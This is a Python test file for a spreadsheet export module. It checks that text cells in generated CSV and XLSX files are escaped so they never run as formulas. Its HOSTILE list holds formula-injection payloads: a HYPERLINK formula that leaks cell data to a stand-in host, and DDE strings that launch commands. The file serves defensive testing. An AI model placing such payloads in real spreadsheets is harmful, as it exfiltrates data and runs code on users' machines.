"""The one CSV/XLSX writer: text never runs as a formula, numbers and dates keep their types."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
from pathlib import Path

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

from placedesk.db import Database
from placedesk.services.common.tabular import (
    DATE,
    INT,
    MONEY,
    TEXT,
    Table,
    csv_bytes,
    csv_cell,
    safe_text,
    table_csv,
    xlsx_bytes,
)
from placedesk.services.sync.spreadsheets import write_spreadsheets
from tests.services.monitoring.helpers import build_monitored_provider
from tests.services.sync.helpers import TODAY, fill

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
RISKY = ("=", "+", "-", "@", "\t", "\r")


@given(st.text())
def test_no_csv_text_cell_can_start_a_formula(text: str) -> None:
    cell = safe_text(text)
    assert not cell.startswith(RISKY) or cell.lstrip("-").replace(".", "", 1).isdigit()
    assert cell.endswith(text)


def test_numbers_and_dates_keep_their_types_in_csv() -> None:
    assert csv_cell(-12) == -12 and csv_cell(decimal.Decimal("-4.50")) == decimal.Decimal("-4.50")
    assert csv_cell("-12.50") == "-12.50" and csv_cell(dt.date(2026, 3, 1)) == "2026-03-01"
    assert csv_cell(True) == "yes" and csv_cell(None) == ""
    table = Table("T", [("Name", TEXT), ("Fee", MONEY), ("When", DATE), ("N", INT)],
                  [(HOSTILE[0], -1250, dt.date(2026, 3, 1), 3)])
    rows = list(csv.reader(io.StringIO(table_csv(table).decode("utf-8-sig"))))
    assert rows[1] == ["'" + HOSTILE[0], "-12.50", "2026-03-01", "3"]


def test_xlsx_text_is_stored_as_text_never_as_a_formula(tmp_path: Path) -> None:
    table = Table("T", [(h, TEXT) for h in HOSTILE], [tuple(HOSTILE)])
    path = tmp_path / "t.xlsx"
    path.write_bytes(xlsx_bytes([table]))
    sheet = openpyxl.load_workbook(path)["T"]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type == "s" and cell.value in HOSTILE


def _assert_safe_csv(data: bytes) -> int:
    cells = 0
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
        for cell in row:
            cells += 1
            assert not cell.startswith(RISKY) or cell.lstrip("-").replace(".", "", 1).isdigit(), cell
    return cells


def test_a_hostile_name_goes_through_every_commissioning_sheet_and_csv_as_text(db: Database, tmp_path: Path) -> None:
    with db.session_scope() as s:
        filled = fill(s, child_name=(HOSTILE[0], HOSTILE[1]), case_reference="CASE-1")
        filled.provider.name = HOSTILE[2]
        provider, cap = build_monitored_provider(s)
        provider.name = HOSTILE[3]
        for action in cap.actions:
            action.description, action.owner = HOSTILE[4], HOSTILE[5]
    with db.session_scope() as s:
        result = write_spreadsheets(s, tmp_path / "out", on=TODAY, csv=True)
    xlsx = [p for p in result.files if p.suffix == ".xlsx"]
    seen: set[str] = set()
    for sheet in openpyxl.load_workbook(xlsx[0]).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(tuple(HOSTILE)):
                    seen.add(sheet.title)
    assert {"Placements", "Spend by provider", "CAPs", "Overdue actions", "KPI reds", "Referrals"} <= seen
    for path in result.files:
        if path.suffix == ".csv":
            assert _assert_safe_csv(path.read_bytes())


def test_csv_bytes_writes_headers_and_rows() -> None:
    data = csv_bytes(["a", "b"], [["=x", 1]], bom=False, lineterminator="\n")
    assert data == b"a,b\n'=x,1\n"
